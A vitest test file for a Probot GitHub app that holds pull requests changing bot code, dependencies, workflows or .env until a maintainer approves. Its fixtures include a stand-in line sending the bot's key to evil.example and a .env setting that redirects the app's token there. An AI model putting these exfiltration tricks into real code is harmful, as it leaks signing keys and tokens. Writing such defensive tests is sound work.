import { readFileSync } from "node:fs";
import nock from "nock";
import { afterEach, expect, it } from "vitest";
import { NOT_CODE_FILES, NOT_CODE_FOLDERS } from "../../src/core/tree/is-code-path.js";
import type { Files } from "../helpers/build-repo.js";
import { pullRequestPayload, reviewPayload, testProbot } from "../helpers/probot.js";
import { pullRequestFixture } from "../helpers/pull-request-fixture.js";
import { useRepo } from "../helpers/use-repo.js";

const { repo } = useRepo();
afterEach(() => nock.cleanAll());

const minutes = (n: number) => new Date(repo().now.getTime() + n * 60_000);

/** mallory (with write access, not a maintainer) opens a PR that changes only these files. */
async function pullRequestChanging(files: Files) {
  nock.cleanAll(); // one fake GitHub at a time
  const base: Files = {
    ...repo().files,
    "README.md": "kaws-bot\n",
    "src/app.ts": "export default createKawsBot();\n",
    "package.json": '{ "name": "kaws-bot" }\n',
    ".github/workflows/provision.yml": "name: provision\n",
  };
  const fixture = pullRequestFixture(base, { files });
  const { probot } = await testProbot({ now: () => minutes(0) });
  const pull = pullRequestPayload({ headSha: fixture.headSha, baseSha: fixture.baseSha, author: "mallory" });
  fixture.github.setPull(7, pull.pull_request);
  let delivery = 0;
  // the deliveries as Probot's webhook server hands them to the app, without taking a port
  const deliver = (name: "pull_request" | "pull_request_review", payload: unknown) =>
    probot.receive({ id: `d${++delivery}`, name, payload } as Parameters<typeof probot.receive>[0]);
  await deliver("pull_request", pull);
  return {
    ...fixture,
    run: () => fixture.github.checkRuns.at(-1)!,
    sticky: () => fixture.github.comments.find((c) => c.body.startsWith("<!-- kaws-bot:sticky -->"))?.body,
    approveByReview: async (reviewer: string, at: Date) => {
      fixture.github.addReview(7, reviewer, "APPROVED", fixture.headSha, at);
      await deliver(
        "pull_request_review",
        reviewPayload({ pull, reviewer, state: "approved", commitId: fixture.headSha, at }),
      );
    },
  };
}

it("does not pass a PR that changes the bot's code until a maintainer approves its head", async () => {
  // the bot runs this code with its OpenPGP key, which opens every cluster's CA key
  const s = await pullRequestChanging({ "src/app.ts": 'fetch("https://evil.example/", { body: key });\n' });
  expect(s.run()).toMatchObject({ head_sha: s.headSha, conclusion: "action_required" });
  expect(s.run().output).toMatchObject({
    title: "Changes code that runs with the bot's key: awaiting 1 more maintainer approval (0 of 1)",
  });
  expect(s.sticky()).toMatch(/this pull request changes code that runs with the bot's key/i);
  expect(s.sticky()).toContain("`src/app.ts`");

  await s.approveByReview("dave", minutes(5));
  expect(s.run()).toMatchObject({ head_sha: s.headSha, conclusion: "success" });
  expect(s.sticky()).toContain("**Approvals:** 1 of 1 (@dave)");
});

it("treats dependencies, workflows, .env and anything unknown as code too", async () => {
  const changes: Files[] = [
    { "package.json": '{ "name": "kaws-bot", "dependencies": { "evil": "1.0.0" } }\n' },
    { ".github/workflows/provision.yml": "name: provision\non: push\n" },
    { "bin/kaws.js": "process.exit(0);\n" },
    // Probot loads .env at start: GHE_HOST would send the app's token to another host
    { ".env": "GHE_HOST=evil.example\n" },
    // a committed module beats the installed one after a `git pull`
    { "node_modules/probot/lib/run.js": "module.exports = {};\n" },
    { "Docs/notes.md.js": "process.exit(0);\n" },
  ];
  for (const files of changes) {
    const s = await pullRequestChanging(files);
    expect(s.run().conclusion).toBe("action_required");
    expect(s.sticky()).toContain(`\`${Object.keys(files)[0]}\``);
  }
});

it("still passes a PR that changes neither managed files nor code", async () => {
  const s = await pullRequestChanging({ "README.md": "kaws-bot, documented\n" });
  expect(s.run()).toMatchObject({
    conclusion: "success",
    output: expect.objectContaining({ title: "No kaws-managed file changed" }),
  });
  expect(s.sticky()).toBeUndefined();
});

it("documents every path it treats as not code, in the README and the rule table", () => {
  for (const doc of ["../../README.md", "../../docs/rules.md"]) {
    const text = readFileSync(new URL(doc, import.meta.url), "utf8");
    for (const path of [...NOT_CODE_FOLDERS, ...NOT_CODE_FILES]) expect(text, doc).toContain(`\`${path}\``);
  }
});
